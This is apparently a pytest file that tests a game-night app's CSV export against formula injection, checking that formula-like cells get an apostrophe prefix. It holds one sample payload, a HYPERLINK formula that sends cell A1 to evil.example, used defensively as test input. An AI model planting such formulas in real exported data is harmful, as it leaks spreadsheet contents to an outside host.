"""The entries CSV cannot run formulas in a spreadsheet (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from report_people import People, make_people, played_night

from gamenight.models import NightReport
from gamenight.reports import build
from gamenight.reports.csv_export import safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Anna", "", "a=b", 12, -7, None])
def test_other_cells_and_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_player_named_like_a_formula_is_inert_in_the_nights_csv(
    db: None, django_capture_on_commit_callbacks: Any
) -> None:
    people: People = make_people(players=4)
    people.players[0].name = FORMULA
    people.players[0].save()
    with django_capture_on_commit_callbacks(execute=False):
        night = played_night(people, games=3)
    assert build.build_night(night.pk) == "built"
    rows = list(csv.DictReader(io.StringIO(NightReport.objects.get(night=night).csv)))
    names = {row["player"] for row in rows if row["player"]}
    assert "'" + FORMULA in names
    assert not any(
        cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell
    )
    # Amounts stay numbers a spreadsheet can add up, minus signs and all.
    assert sum(int(row["amount"]) for row in rows) == 0
    assert any(row["amount"].startswith("-") for row in rows)
